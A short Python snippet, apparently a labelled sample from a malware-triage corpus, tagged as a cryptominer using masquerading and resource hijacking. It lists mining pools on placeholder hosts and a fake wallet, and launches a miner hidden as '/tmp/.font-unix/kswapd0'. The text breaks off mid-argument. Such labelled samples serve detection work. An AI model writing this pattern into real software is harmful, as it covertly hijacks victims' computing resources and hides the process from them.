# label: malicious family=miner techniques=T1036.005,T1496 lines=4-5,7,9
import subprocess, os
POOLS = [
    "stratum+tcp://xmr-eu1.pool.bad-host.example:3333",
    "stratum+tcp://203.0.113.250:443",
]
WALLET = "48FAKEpytriageCORPUSwalletxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
def start(pool):
    return subprocess.Popen(["/tmp/.font-unix/kswapd0", "-o", pool, "-u", WALLET,
                             "--donate-level", "0", "--max-cpu-usage
